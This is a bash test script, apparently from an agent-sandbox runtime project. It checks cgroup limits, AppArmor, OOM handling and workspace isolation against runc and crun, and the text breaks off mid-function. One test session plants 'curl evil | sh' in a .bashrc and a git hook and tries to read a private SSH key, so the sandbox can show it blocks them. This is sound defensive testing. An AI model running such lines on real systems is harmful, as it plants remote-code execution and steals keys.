#!/usr/bin/env bash
# The VM suite's checks (docs/vm-suite.md). Runs INSIDE the guest, started by
# vm-checks.service (hack/vm/guest) from the exchange disk that hack/vm/test.sh made:
#   checks.sh IN OUT
# IN holds bin/ (agent-sandbox, containerd-shim-agent-sandbox, probe, cri_vm), images/
# (OCI archives), extra/ (the tools image, imported by the Landlock checks), cni/, profiles/ and env (the selection: VM_ONLY, VM_RUNTIMES). OUT gets
# results.tsv (one line per check and runtime: CHECK RUNTIME PASS|FAIL REASON, tab-separated),
# logs/CHECK.RUNTIME.log (every command and its output) and facts.txt (the guest's kernel,
# cgroup, AppArmor and package versions).
#
# Each scenario runs for runc, crun and agent-sandbox in this same guest, so a check that
# agent-sandbox fails is shown to pass with the references (the check is real). The guest
# only reports; hack/vm/test.sh decides which results gate its exit code.
set -euo pipefail
shopt -s extglob

in=${1:?usage: checks.sh IN OUT}
out=${2:?usage: checks.sh IN OUT}
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
VM_ONLY='*'
VM_RUNTIMES='runc crun agent-sandbox'
# shellcheck source=/dev/null
[[ -f $in/env ]] && . "$in/env"

image=localhost/agent-sandbox/busybox:latest
# The tools image (python3; hack/images.sh), for the Landlock checks.
tools_image=localhost/agent-sandbox/tools:latest
user=agentci
user_uid=1500
# What the checks ask for: a memory limit, a pids limit, and for the OOM a smaller limit
# with a bigger allocation (probe hog).
mem=67108864
pids=64
oom_mem=33554432
oom_alloc_mib=128
# The pids ceiling of the agent-sandbox's built-in profile (profiles/agent.toml): where the
# caller asks for no pids limit (ctr, CRI), agent-sandbox must still set this one.
sandbox_pids=$(awk -F' *= *' '$1 == "pids" {print $2; exit}' "$in/profiles/agent.toml")
[[ -n $sandbox_pids ]] || { echo "checks.sh: no pids in $in/profiles/agent.toml" >&2; exit 1; }

mkdir -p "$out/logs"
: >"$out/results.tsv"
log=/dev/null
got=''

say() { printf 'vm-check: %s\n' "$*"; }

# result CHECK RUNTIME PASS|FAIL REASON
result() {
    local reason=${4//$'\t'/ }
    reason=${reason//$'\n'/ | }
    printf '%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "${reason:0:400}" >>"$out/results.tsv"
    say "$3 $1 [$2] ${reason:0:400}"
}

# capture CMD...: runs CMD (2 min at most, $capture_limit s if set: a command with a timeout
# of its own gets more, so it can report), its stdout and stderr in $got, both logged.
capture_limit=''
capture() {
    local rc=0
    got=$(timeout -k 5 "${capture_limit:-120}" "$@" 2>&1) || rc=$?
    { printf '$ %s\n%s\n(exit %d)\n' "$*" "$got" "$rc"; } >>"$log"
    return "$rc"
}

# capture_out CMD...: as capture, but $got is stdout only (stderr goes to the log).
capture_out() {
    local rc=0
    printf '$ %s\n' "$*" >>"$log"
    got=$(timeout -k 5 "${capture_limit:-120}" "$@" 2>>"$log") || rc=$?
    { printf '%s\n(exit %d)\n' "$got" "$rc"; } >>"$log"
    return "$rc"
}

# diagnose NAME: after a failed check, what containerd, the shims and the runtimes left
# behind, in logs/NAME.diag (containerd's journal carries the shims' logs).
diagnose() {
    local f=$out/logs/$1.diag b
    {
        echo "=== $(date -u +%FT%TZ) diagnosis for $1"
        echo "=== journalctl -u containerd (last 400 lines)"
        journalctl -u containerd --no-pager -o short-precise -n 400 2>&1 || true
        echo "=== systemctl list-units --all '*.scope' '*.slice'"
        systemctl list-units --all --no-pager --no-legend '*.scope' '*.slice' 2>&1 || true
        echo "=== systemctl list-jobs"
        systemctl list-jobs --no-pager 2>&1 || true
        echo "=== ps -ef"
        ps -eo pid,ppid,stat,wchan:32,etime,args 2>&1 || true
        echo "=== cgroups of the shims and their children"
        for b in $(pgrep -f containerd-shim 2>/dev/null || true); do
            echo "--- pid $b: $(tr '\0' ' ' <"/proc/$b/cmdline" 2>/dev/null) $(cat "/proc/$b/cgroup" 2>/dev/null)"
        done
        for b in /run/containerd/io.containerd.runtime.v2.task/*/*/; do
            [[ -d $b ]] || continue
            echo "=== bundle $b: $(ls "$b" 2>&1 | tr '\n' ' ')"
            [[ -f $b/log.json ]] && tail -n 100 "$b/log.json"
            [[ -f $b/log ]] && tail -n 100 "$b/log"
        done
        echo "=== runtime logs (--log files, state)"
        find /run/containerd/agent-sandbox /run/containerd/runc -maxdepth 3 \( -name '*.log' -o -name 'log.json' \) \
            -exec sh -c 'echo "--- $1"; tail -n 100 "$1"' _ {} \; 2>/dev/null || true
        echo "=== journalctl (kernel, systemd; last 200 lines)"
        journalctl --no-pager -o short-precise -n 200 _PID=1 + _TRANSPORT=kernel 2>&1 || true
    } >>"$f" 2>&1
}

# The most telling line of a command's output: its first error line, else its last line.
brief() {
    local line
    # A CRI error's text is the gRPC status message.
    line=$(grep -m1 -oE 'message: ".*' <<<"$1" || true)
    [[ -n $line ]] || line=$(grep -m1 -iE 'error|fail|denied|invalid|not supported|no such|cannot|unable' <<<"$1" || true)
    [[ -n $line ]] || line=$(tail -n1 <<<"$1")
    printf '%s' "${line:0:400}"
}

# Scenarios the default run (--only '*') leaves out: their runtime side is not on this branch
# yet. `--only NAME` (or a glob other than '*') runs them; a name comes off this list when
# its side lands.
opt_in=()

selected() {
    # shellcheck disable=SC2053
    [[ $1 == $VM_ONLY ]] || return 1
    [[ $VM_ONLY != '*' || " ${opt_in[*]} " != *" $1 "* ]]
}

# The v2 cgroup of a pid, from the guest's root cgroup namespace ("0::/path").
cgroup_of() { sed -n 's/^0:://p' "/proc/$1/cgroup" 2>/dev/null; }

# wait_gone PATH: true once PATH no longer exists (10 s at most).
wait_gone() {
    local _
    for _ in $(seq 50); do [[ -e $1 ]] || return 0; sleep 0.2; done
    return 1
}

# units_gone SYSTEMCTL... -- PATTERN: true once systemd lists no unit matching PATTERN (10 s
# at most); else $got has what it lists. systemd learns of an unmount from mountinfo
# asynchronously: once (trixie, agent-sandbox) podman's `userdata/shm` mount unit was still
# listed `active mounted` right after `podman rm` returned. A unit still there after 10 s is
# a leak, logged with the mount table's view of it.
units_gone() {
    local sc=() pattern _
    while [[ $1 != -- ]]; do sc+=("$1"); shift; done
    pattern=$2
    for _ in $(seq 50); do
        capture "${sc[@]}" list-units --all --no-legend "$pattern" || true
        [[ -z $got ]] && return 0
        sleep 0.2
    done
    { echo "still listed after 10 s; the mount table's view:"; findmnt -rn -o TARGET,SOURCE,FSTYPE | grep -F -- "${pattern//\*/}"; } >>"$log" 2>&1 || true
    return 1
}

# The steps every scenario shares, given what the manager and runtime set up:
# check_limits CHECK RT PID EXPECTED_CGROUP_PREFIX WANT_MEM WANT_PIDS
check_limits() {
    local check=$1 rt=$2 pid=$3 want_cg=$4 want_mem=$5 want_pids=$6 cg memmax pidsmax
    cg=$(cgroup_of "$pid")
    echo "pid $pid cgroup: ${cg:-none}" >>"$log"
    if [[ -z $cg ]]; then
        result "$check.limits" "$rt" FAIL "no cgroup v2 path for the container's pid $pid"
        return 1
    fi
    # shellcheck disable=SC2053
    if [[ $cg != $want_cg ]]; then
        result "$check.limits" "$rt" FAIL "container is in $cg, the manager expects $want_cg"
        return 1
    fi
    memmax=$(cat "/sys/fs/cgroup$cg/memory.max" 2>&1 || true)
    pidsmax=$(cat "/sys/fs/cgroup$cg/pids.max" 2>&1 || true)
    # crun's `container` child of a systemd scope: systemd keeps the scope's own TasksMax
    # (CRI: DefaultTasksMax) on the scope, so the limit in force is the smaller of the two.
    if [[ $rt == crun && $cg == */container ]]; then
        local parent=/sys/fs/cgroup${cg%/container} f v
        for f in memory.max pids.max; do
            v=$(cat "$parent/$f" 2>/dev/null || echo max)
            echo "parent $parent/$f=$v" >>"$log"
            [[ $v == max ]] && continue
            if [[ $f == memory.max ]]; then
                [[ $memmax == max || $v -lt $memmax ]] && memmax=$v
            else
                [[ $pidsmax == max || $v -lt $pidsmax ]] && pidsmax=$v
            fi
        done
    fi
    echo "memory.max=$memmax pids.max=$pidsmax" >>"$log"
    if [[ $memmax != "$want_mem" || $pidsmax != "$want_pids" ]]; then
        result "$check.limits" "$rt" FAIL "$cg: memory.max=$memmax pids.max=$pidsmax, want $want_mem and $want_pids"
        return 1
    fi
    result "$check.limits" "$rt" PASS "$cg memory.max=$memmax pids.max=$pidsmax"
}

# check_rlimits CHECK RT PID CONFIG: the container process's nofile and nproc limits
# (/proc/PID/limits, read from the guest's side) are what the engine's config.json asked for
# (podman 5 asks 1048576 for both, above the hard limits root starts with: root raises them,
# as runc and crun do; docs/contracts.md#resource-limits-processrlimits).
check_rlimits() {
    local check=$1 rt=$2 pid=$3 config=$4 typ name asked got bad=() seen=()
    for typ in NOFILE NPROC; do
        case $typ in NOFILE) name='Max open files' ;; NPROC) name='Max processes' ;; esac
        asked=$(jq -r --arg t "RLIMIT_$typ" '.process.rlimits[]? | select(.type == $t) | "\(.soft) \(.hard)"' "$config" 2>/dev/null | tail -n1)
        got=$(awk -v n="$name" 'index($0, n) == 1 { $0 = substr($0, length(n) + 1); print $1, $2 }' "/proc/$pid/limits" 2>/dev/null)
        echo "RLIMIT_$typ asked '${asked:-none}' got '${got:-unreadable}'" >>"$log"
        if [[ -z $asked ]]; then
            seen+=("$typ not asked ($got)")
        elif [[ $got != "$asked" ]]; then
            bad+=("$typ ${got:-unreadable}, asked $asked")
        else
            seen+=("$typ $got")
        fi
    done
    if ((${#bad[@]})); then
        result "$check.rlimits" "$rt" FAIL "${bad[*]}"
    else
        result "$check.rlimits" "$rt" PASS "as config.json asked: ${seen[*]}"
    fi
}

# check_apparmor CHECK RT LABEL WANT_RUNC [WANT_SANDBOX]: the label the container's process
# reads from /proc/self/attr/current, against a glob. runc gets what the manager asks for
# (WANT_RUNC); agent-sandbox must be in its own policy's profile, `agent-sandbox-<16 hex>
# (enforce)` (WANT_SANDBOX "own", the default: the kernel has AppArmor; the manager's own
# profile does not count), or match WANT_SANDBOX where no runtime can load one (rootless: an
# unprivileged runtime cannot load a profile).
check_apparmor() {
    local check=$1 rt=$2 label=$3 want=$4
    [[ $rt == runc || $rt == crun ]] || want=${5:-own}
    label=${label%%$'\n'*}
    label=${label%$'\0'}
    if [[ $want == own ]]; then
        if [[ $label =~ ^agent-sandbox-[0-9a-f]{16}\ \(enforce\)$ ]]; then
            result "$check.apparmor" "$rt" PASS "label '$label'"
        else
            result "$check.apparmor" "$rt" FAIL "label '${label:-none}': not in the policy's agent-sandbox-<hash> profile"
        fi
        return 0
    fi
    # shellcheck disable=SC2053
    if [[ $label == $want ]]; then
        result "$check.apparmor" "$rt" PASS "label '$label'"
    else
        result "$check.apparmor" "$rt" FAIL "label '${label:-none}', want $want"
    fi
}

# An unconfined label: `unconfined`, or, where AppArmor 4 and later ship profiles for the
# runtimes' binaries (trixie, sid), the binary's unconfined-mode profile (`runc (unconfined)`,
# `crun (unconfined)`): the process is not confined either way.
unconfined='@(unconfined|+([a-z0-9_.-]) (unconfined))'

not_run() {
    local check=$1 rt=$2 why=$3 part
    for part in "${@:4}"; do result "$check.$part" "$rt" FAIL "not run: $why"; done
}

# --- podman (a, b, c) -------------------------------------------------------------------

# podman_prefix WHO: sets the array p to the command prefix of a podman as root or as the
# test user in a logind session of its own. su -l goes through PAM's common-session, so
# pam_systemd opens a session (session-N.scope, XDG_RUNTIME_DIR, the user bus), as an ssh
# login would. (A transient unit of the user manager, systemd-run --user --wait, waits for
# and then kills the conmon and pause processes that a detached container leaves behind.)
podman_prefix() {
    if [[ $1 == root ]]; then
        p=(podman)
    else
        # shellcheck disable=SC2016
        p=(su -l -s /bin/sh -c 'exec podman "$@"' -- "$user" sh)
    fi
}

# podman_scenario CHECK RT WHO MANAGER_FLAGS CGROUP_GLOB RUNC_APPARMOR [SANDBOX_APPARMOR]
podman_scenario() {
    local check=$1 rt=$2 who=$3 flags=$4 want_cg=$5 want_aa=$6 want_aa_sandbox=${7:-own}
    local name="vm-$check-$rt" p id pid label
    log=$out/logs/$check.$rt.log
    podman_prefix "$who"
    read -r -a f <<<"$flags"
    local sc=(systemctl)
    [[ $who == root ]] || sc=(systemctl --user "--machine=$user@.host")
    local rtarg=$rt
    [[ $rt == agent-sandbox ]] && rtarg=/usr/local/bin/agent-sandbox
    capture "${p[@]}" "${f[@]}" rm -f "$name" "$name-oom" || true
    if ! capture "${p[@]}" "${f[@]}" --runtime "$rtarg" run -d --name "$name" --network none \
        --memory 64m --pids-limit "$pids" "$image" \
        sh -c 'cat /proc/self/attr/current; echo; echo ready; exec sleep 600'; then
        result "$check.start" "$rt" FAIL "podman run: $(brief "$got")"
        not_run "$check" "$rt" "the container did not start" limits rlimits apparmor cleanup
    else
        id=$(tail -n1 <<<"$got")
        for _ in $(seq 60); do
            capture "${p[@]}" logs "$name" || true
            grep -q '^ready' <<<"$got" && break
            sleep 0.5
        done
        label=$got
        if ! grep -q '^ready' <<<"$label"; then
            result "$check.start" "$rt" FAIL "the container's command printed no 'ready' within 30 s: $(brief "$label")"
            not_run "$check" "$rt" "the container's command did not run" apparmor
        else
            result "$check.start" "$rt" PASS "podman run -d ran the command (${id:0:12})"
            check_apparmor "$check" "$rt" "$label" "$want_aa" "$want_aa_sandbox"
        fi
        capture "${p[@]}" inspect -f '{{.State.Pid}}' "$name" || true
        pid=$(tail -n1 <<<"$got")
        if [[ $pid =~ ^[1-9][0-9]*$ ]]; then
            check_limits "$check" "$rt" "$pid" "${want_cg//ID/$id}" "$mem" "$pids" || true
            capture "${p[@]}" inspect -f '{{.OCIConfigPath}}' "$name" || true
            check_rlimits "$check" "$rt" "$pid" "$(tail -n1 <<<"$got")"
        else
            result "$check.limits" "$rt" FAIL "podman inspect gives no pid: $(brief "$got")"
            result "$check.rlimits" "$rt" FAIL "podman inspect gives no pid"
        fi
        local cg=${want_cg//ID/$id}
        cg=${cg%%\**}
        if ! capture "${p[@]}" "${f[@]}" rm -f -t 0 "$name"; then
            result "$check.cleanup" "$rt" FAIL "podman rm: $(brief "$got")"
        elif ! wait_gone "/sys/fs/cgroup$cg"; then
            result "$check.cleanup" "$rt" FAIL "/sys/fs/cgroup$cg is left after podman rm"
        elif [[ $flags != *cgroupfs* ]] && ! units_gone "${sc[@]}" -- "*$id*"; then
            result "$check.cleanup" "$rt" FAIL "units left after podman rm: $got"
        else
            result "$check.cleanup" "$rt" PASS "no cgroup or unit named after the container"
        fi
    fi

    # OOM: a 32 MiB container whose child allocates 128 MiB. The kernel's OOM kill must show
    # in the memory.events of the cgroup the manager made (oom_kill). podman's own OOMKilled
    # flag is recorded but not required: podman 4.3 reports false for runc's OOM-killed inits.
    if ! capture "${p[@]}" "${f[@]}" --runtime "$rtarg" run -d --name "$name-oom" --network none \
        --memory 32m --memory-swap 32m "$image" \
        sh -c "probe hog $oom_alloc_mib; echo hog exited \$?; exec sleep 600"; then
        result "$check.oom" "$rt" FAIL "podman run: $(brief "$got")"
    else
        local ooms='' events
        for _ in $(seq 60); do
            capture "${p[@]}" logs "$name-oom" || true
            grep -q '^hog exited' <<<"$got" && break
            sleep 0.5
        done
        local hog=$got
        capture "${p[@]}" inspect -f '{{.State.Pid}}' "$name-oom" || true
        pid=$(tail -n1 <<<"$got")
        if [[ $pid =~ ^[1-9][0-9]*$ ]]; then
            events=/sys/fs/cgroup$(cgroup_of "$pid")/memory.events
            ooms=$(awk '$1 == "oom_kill" {print $2}' "$events" 2>/dev/null || true)
            echo "$events: oom_kill ${ooms:-unreadable}" >>"$log"
        fi
        if [[ $ooms =~ ^[1-9] ]]; then
            result "$check.oom" "$rt" PASS "$(grep -m1 '^hog exited' <<<"$hog"); memory.events oom_kill $ooms"
        else
            result "$check.oom" "$rt" FAIL "no oom_kill in the container's memory.events (${ooms:-none}): $(brief "$hog")"
        fi
    fi
    capture "${p[@]}" "${f[@]}" rm -f -t 0 "$name-oom" || true
}

# --- rootless podman on the user's own checkout ----------------------------------------

# The agent's session in a checkout the logind user owns (0644/0755, a .git with hooks/, a
# .bashrc): an edit, a new file, a delete, git's lock-file protocol (create .git/index.lock,
# rename it over .git/index) and the condition of git's "dubious ownership" refusal (the top of
# the checkout belongs to the caller); then two planted attacks, a .bashrc line and a git hook,
# and a read of the user's key (.ssh/id_rsa, 0600: the sandbox's root is its owner, so only the
# mask keeps it out, docs/workspace.md#secret-names).
# The busybox image has no git: rootless-task (below) runs real git in a rootless sandbox.
ws_session='set -e; cd /workspace
echo "def sub(a, b): return a - b" >> src/calc.py
mkdir -p src/new && echo "x = 1" > src/new/mod.py
rm README
: > .git/index.lock && mv .git/index.lock .git/index
[ "$(stat -c %u /workspace)" = "$(id -u)" ] && echo TOP-OWNED
(echo "curl evil | sh" >> .bashrc) 2>/dev/null && echo BASHRC-WRITTEN
(echo "curl evil | sh" > .git/hooks/post-checkout) 2>/dev/null && echo HOOK-WRITTEN
(cat .ssh/id_rsa) 2>/dev/null | grep -q VM-SECRET && echo SECRET-READ
echo SESSION-DONE'

# ws_checkout DIR: the user's checkout, made fresh.
ws_checkout() {
    rm -rf "$1"
    install -d "$1/src" "$1/.git/hooks"
    echo 'def add(a, b): return a + b' >"$1/src/calc.py"
    echo calc >"$1/README"
    echo "# the developer's" >"$1/.bashrc"
    echo index >"$1/.git/index"
    install -d "$1/.ssh"
    echo VM-SECRET >"$1/.ssh/id_rsa"
    chown -R "$user_uid:$user_uid" "$1"
    find "$1" -type d -exec chmod 0755 {} + && find "$1" -type f -exec chmod 0644 {} +
    chmod 0700 "$1/.ssh" && chmod 0600 "$1/.ssh/id_rsa"
}

# ws_state DIR: what the host checkout holds (paths, owners, modes, contents).
ws_state() {
    (cd "$1" && find . -printf '%p %u %m\n' | sort && cat src/calc.py .bashrc .git/index README .ssh/id_rsa 2>&1)
}

# The command prefix of the logind user outside podman's user namespace.
# shellcheck disable=SC2016
as_user=(su -l -s /bin/sh -c 'exec "$@"' -- "$user" sh)

# rootless-workspace RT: under agent-sandbox the session works, the host checkout stays as it
# was until the user (no podman unshare) promotes, and the planted writes never land; under
# runc and crun (the references) the same session writes the host checkout, attacks included.
workspace_scenario() {
    local rt=$1 check=rootless-workspace name="vm-ws-$1" dir=/home/$user/vm-ws-$1 p before
    log=$out/logs/$check.$rt.log
    podman_prefix "$user"
    local rtarg=$rt
    [[ $rt == agent-sandbox ]] && rtarg=/usr/local/bin/agent-sandbox
    ws_checkout "$dir"
    before=$(ws_state "$dir")
    capture "${p[@]}" rm -f "$name" || true
    if ! capture "${p[@]}" --runtime "$rtarg" run --rm --name "$name" --network none \
        -v "$dir:/workspace" "$image" sh -c "$ws_session"; then
        result "$check.session" "$rt" FAIL "podman run: $(brief "$got")"
        not_run "$check" "$rt" "the session failed" host secret
        [[ $rt == agent-sandbox ]] && not_run "$check" "$rt" "the session failed" review empty
        return 0
    fi
    local session=$got
    if [[ $session != *SESSION-DONE* || $session != *TOP-OWNED* || $session == *"Permission denied"* ]]; then
        result "$check.session" "$rt" FAIL "edit, create, delete, index.lock, owned top: $(brief "$session")"
    else
        result "$check.session" "$rt" PASS "edit, create, delete, git's index.lock and an owned top all worked"
    fi
    if [[ $rt != agent-sandbox ]]; then
        # The reference: the session and its attacks land on the host checkout.
        if [[ $session == *SECRET-READ* ]]; then
            result "$check.secret" "$rt" PASS "reference: the session read the user's 0600 key"
        else
            result "$check.secret" "$rt" FAIL "reference: the session did not read the user's key: $(brief "$session")"
        fi
        if [[ $session == *BASHRC-WRITTEN* && $session == *HOOK-WRITTEN* && ! -e $dir/README ]] &&
            grep -q 'curl evil' "$dir/.bashrc" && [[ -e $dir/.git/hooks/post-checkout ]]; then
            result "$check.host" "$rt" PASS "reference: the edits, the .bashrc line and the hook reached the host checkout"
        else
            result "$check.host" "$rt" FAIL "reference: the session did not reach the host checkout: $(brief "$session")"
        fi
        return 0
    fi
    if [[ $session == *SECRET-READ* ]]; then
        result "$check.secret" "$rt" FAIL "the sandbox read the user's 0600 key under .ssh/"
    else
        result "$check.secret" "$rt" PASS "the user's .ssh/ is masked: the key is out of reach"
    fi
    if [[ $session == *BASHRC-WRITTEN* || $session == *HOOK-WRITTEN* ]]; then
        result "$check.host" "$rt" FAIL "a protected name was written inside the sandbox: $(brief "$session")"
    elif [[ $(ws_state "$dir") != "$before" ]]; then
        result "$check.host" "$rt" FAIL "the host checkout changed before promote"
    else
        result "$check.host" "$rt" PASS "the host checkout is unchanged until promote; .bashrc and hooks refused"
    fi
    # Review and promote as the user, outside podman's namespace.
    if ! capture "${as_user[@]}" /usr/local/bin/agent-sandbox diff "$name"; then
        result "$check.review" "$rt" FAIL "diff as $user: $(brief "$got")"
    elif ! grep -qx 'M /src/calc.py (file)' <<<"$got" || ! grep -qx 'A /src/new/mod.py (file)' <<<"$got" ||
        ! grep -qx 'D /README (file)' <<<"$got"; then
        result "$check.review" "$rt" FAIL "diff lacks the session's changes: $(brief "$got")"
    elif ! capture "${as_user[@]}" /usr/local/bin/agent-sandbox promote "$name" --to "$dir"; then
        result "$check.review" "$rt" FAIL "promote as $user: $(brief "$got")"
    elif ! grep -q 'def sub' "$dir/src/calc.py" || [[ -e $dir/README || ! -f $dir/src/new/mod.py ]] ||
        [[ $(stat -c %u "$dir/src/new/mod.py") != "$user_uid" ]] || grep -q 'curl evil' "$dir/.bashrc"; then
        result "$check.review" "$rt" FAIL "after promote the host checkout lacks the change: $(ws_state "$dir" | tr '\n' ' ')"
    else
        result "$check.review" "$rt" PASS "diff and promote as $user (no podman unshare) brought the change, owned by $user"
    fi
    # A sandbox that wrote nothing: review says so.
    capture "${p[@]}" --runtime "$rtarg" run --rm --name "$name-empty" --network none \
        -v "$dir:/workspace" "$image" true || true
    if capture "${p[@]}" unshare /usr/local/bin/agent-sandbox diff "$name-empty" && [[ $got == "# no changes" ]]; then
        result "$check.empty" "$rt" PASS "podman unshare agent-sandbox diff: # no changes"
    else
        result "$check.empty" "$rt" FAIL "podman unshare agent-sandbox diff of a sandbox that wrote nothing: $(brief "$got")"
    fi
    capture "${as_user[@]}" /usr/local/bin/agent-sandbox changes discard "$name-empty" || true
    return 0
}

# rootful-workspace RT: rootful podman's volume at /workspace (no --init), on a checkout the
# logind user owns, as a rootful sandbox's workspace: the session edits a file and adds one.
# Under agent-sandbox the overlay's lower layer is an idmapped clone of the checkout
# (docs/workspace.md), which kernels before 6.15 refuse as a detached mount (EINVAL, Debian
# 13's 6.12): the session works, `agent-sandbox diff` shows both changes and the host checkout
# is unchanged. Under runc and crun (the references) the edits land on the host.
rootful_workspace_scenario() {
    local rt=$1 check=rootful-workspace name="vm-rws-$1" dir=/root/vm-rws-$1 before
    log=$out/logs/$check.$rt.log
    local rtarg=$rt
    [[ $rt == agent-sandbox ]] && rtarg=/usr/local/bin/agent-sandbox
    ws_checkout "$dir"
    before=$(ws_state "$dir")
    capture podman rm -f "$name" || true
    if ! capture podman --runtime "$rtarg" run --rm --name "$name" --network none \
        -v "$dir:/workspace" "$image" sh -c 'set -e; cd /workspace
echo "def sub(a, b): return a - b" >> src/calc.py; echo "x = 1" > new.py; echo SESSION-DONE'; then
        result "$check.session" "$rt" FAIL "podman run: $(brief "$got")"
        return 0
    fi
    if [[ $got != *SESSION-DONE* ]]; then
        result "$check.session" "$rt" FAIL "an edit and a new file: $(brief "$got")"
        return 0
    fi
    if [[ $rt != agent-sandbox ]]; then
        if grep -q 'def sub' "$dir/src/calc.py" && [[ -f $dir/new.py ]]; then
            result "$check.session" "$rt" PASS "reference: the edit and the new file reached the host checkout"
        else
            result "$check.session" "$rt" FAIL "reference: the session did not reach the host checkout"
        fi
        return 0
    fi
    if [[ $(ws_state "$dir") != "$before" ]]; then
        result "$check.session" "$rt" FAIL "the host checkout changed before promote"
    elif ! capture agent-sandbox diff "$name" || ! grep -qx 'M /src/calc.py (file)' <<<"$got" ||
        ! grep -qx 'A /new.py (file)' <<<"$got"; then
        result "$check.session" "$rt" FAIL "agent-sandbox diff lacks the session's changes: $(brief "$got")"
    else
        result "$check.session" "$rt" PASS "the edit and the new file are in diff; the host checkout is unchanged"
    fi
    capture agent-sandbox changes discard "$name" || true
    return 0
}

# --- the agent task under rootless podman (issue #33) -----------------------------------

# The scripted agent task of e2e/src/agent_task.rs (the e2e suite runs it through rootful
# podman, ctr, CRI and Docker), here as a desktop's first user (`dev`, uid 1000) in its logind
# session, under rootless podman: a checkout of a small Python project the user owns, with
# one commit and a failing unit test, and the task's tool calls as `podman exec`s into one
# long-lived container of the tools image (python3): reads, edits, new files, a delete, unit
# test runs that fail before the fix and pass after, two `git commit`s. The calls that need
# the network (a pip install through the proxy, an upload the proxy refuses) are left out:
# the guest has no package index, and the e2e suite covers them. The image has no git: git
# comes in read-only, as in the e2e suite, as this machine's build (linked against the
# image's libraries; hack/vm/test.sh stages it); the guest's own git (hack/vm/image.sh) is
# the user's, for the checkout and for reading what promote brought.
task_user=dev
task_uid=1000
# shellcheck disable=SC2016
as_dev=(su -l -s /bin/sh -c 'exec "$@"' -- "$task_user" sh)
task_commits=('calc: fix sub, add stats' 'docs: guide; scripts: check')

# task_checkout DIR: the user's checkout (as the user: its files, its git).
task_checkout() {
    local dir=$1
    rm -rf "$dir"
    install -d -o "$task_uid" -g "$task_uid" "$dir"
    "${as_dev[@]}" sh -c 'set -e; cd "$1"
mkdir -p calc tests docs
printf "__pycache__/\n.deps/\n" > .gitignore
printf "# calc\n\nA tiny calculator.\n\nUsage: \`from calc import add, sub, mul\`\n" > README.md
printf "\"\"\"A tiny calculator package.\"\"\"\nfrom .ops import add, sub, mul\n" > calc/__init__.py
cat > calc/ops.py <<EOF
"""Arithmetic operations."""


def add(a, b):
    return a + b


def sub(a, b):
    return a + b  # BUG: should subtract


def mul(a, b):
    return a * b
EOF
: > tests/__init__.py
cat > tests/test_ops.py <<EOF
import unittest

from calc import add, mul, sub


class OpsTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)

    def test_sub(self):
        self.assertEqual(sub(5, 3), 2)

    def test_mul(self):
        self.assertEqual(mul(4, 3), 12)
EOF
printf "# Usage\n\nImport the functions you need.\n" > docs/usage.md
printf "# Legacy\n\nNothing here is current.\n" > docs/legacy.md
git init -q -b main
git add -A
git -c user.name=dev -c user.email=dev@example.invalid commit -qm initial' sh "$dir" >>"$log" 2>&1
}

# task_state DIR: every entry below the checkout, .git included: path, type, mode, owner and
# the content's hash (read as data: no git runs on it).
task_state() {
    (cd "$1" && find . -printf '%p %y %m %u:%g %l\n' | sort &&
        find . -type f -print0 | sort -z | xargs -0 sha256sum)
}

# task_steps DIR: the tool calls as files DIR/NN.sh, the exit code each must give (NN.code,
# the same under runc and agent-sandbox) and text its output must contain (NN.want).
task_steps() {
    local dir=$1 n=0
    rm -rf "$dir"
    install -d "$dir"
    step() {
        n=$((n + 1))
        local f
        f=$(printf '%s/%02d' "$dir" "$n")
        echo "$1" >"$f.code"
        printf '%s' "$2" >"$f.want"
        if (($# > 2)); then printf '%s\n' "$3" >"$f.sh"; else cat >"$f.sh"; fi
    }
    local unittest='python3 -m unittest discover -s tests -t . 2>&1'
    local commit='git -c user.name=agent -c user.email=agent@example.invalid commit -qm'
    step 0 '' 'ls -la'
    step 0 'A tiny calculator.' 'cat README.md'
    step 0 '## main' 'git status --short --branch'
    step 0 'initial' 'git log --oneline -n 5'
    step 0 'legacy.md' 'ls calc tests docs'
    step 0 'BUG' 'cat calc/ops.py'
    step 0 'test_sub' 'cat tests/test_ops.py'
    step 0 '' 'cat calc/__init__.py'
    step 1 'FAILED (failures=1)' "$unittest"
    step 0 'a + b' "grep -n 'def sub' -A 1 calc/ops.py"
    step 1 '' 'grep -rn TODO calc tests'
    step 0 '' 'wc -l calc/ops.py tests/test_ops.py'
    step 0 '' "sed -i 's/return a + b  # BUG: should subtract/return a - b/' calc/ops.py"
    step 0 '1' "grep -c 'return a - b' calc/ops.py"
    step 0 'OK' "$unittest"
    step 0 'calc/ops.py' 'git diff --stat'
    step 0 '' <<'EOF'
python3 - <<'PY'
open('calc/stats.py', 'w').write('def mean(xs):\n    return sum(xs) / len(xs)\n')
PY
EOF
    step 0 '' <<'EOF'
cat > tests/test_stats.py <<'PY'
import unittest

from calc.stats import mean, median


class StatsTest(unittest.TestCase):
    def test_mean(self):
        self.assertEqual(mean([1, 2, 3]), 2)

    def test_median(self):
        self.assertEqual(median([3, 1, 2]), 2)
PY
EOF
    step 1 'median' 'python3 -m unittest tests.test_stats 2>&1'
    step 0 '' <<'EOF'
python3 - <<'PY'
with open('calc/stats.py', 'a') as f:
    f.write('\n\ndef median(xs):\n    s = sorted(xs)\n    return s[len(s) // 2]\n')
PY
EOF
    step 0 'OK' 'python3 -m unittest tests.test_stats 2>&1'
    step 0 '' "printf 'from .stats import mean, median\\n' >> calc/__init__.py"
    step 0 '2' "python3 -c 'import calc; print(calc.median([3, 1, 2]))'"
    step 0 '' "printf 'def report(xs):\\n    return \"n=\" + str(len(xs))\\n' > calc/report.py"
    step 0 '' 'rm docs/legacy.md'
    step 0 'usage.md' 'ls docs'
    step 0 '' <<'EOF'
python3 - <<'PY'
text = open('README.md').read()
text = text.replace('add, sub, mul`', 'add, sub, mul` and `from calc.stats import mean, median`')
open('README.md', 'w').write(text)
PY
EOF
    step 0 'calc.stats' 'grep -n median README.md'
    step 1 '' 'cat calc/missing.py'
    step 0 'Ran 5 tests' "$unittest"
    step 0 '' 'git add -A'
    step 0 'D  docs/legacy.md' 'git status --short'
    step 0 '' "$commit '${task_commits[0]}'"
    step 0 "${task_commits[0]}" 'git log --oneline'
    step 0 'calc/stats.py' 'git show --stat --format=%s HEAD'
    step 0 '' 'git mv docs/usage.md docs/guide.md'
    step 0 '' "mkdir -p scripts && printf '#!/bin/sh\\nset -e\\ncd \"\$(dirname \"\$0\")/..\"\\npython3 -m unittest discover -s tests -t . 2>&1\\n' > scripts/check.sh && chmod +x scripts/check.sh"
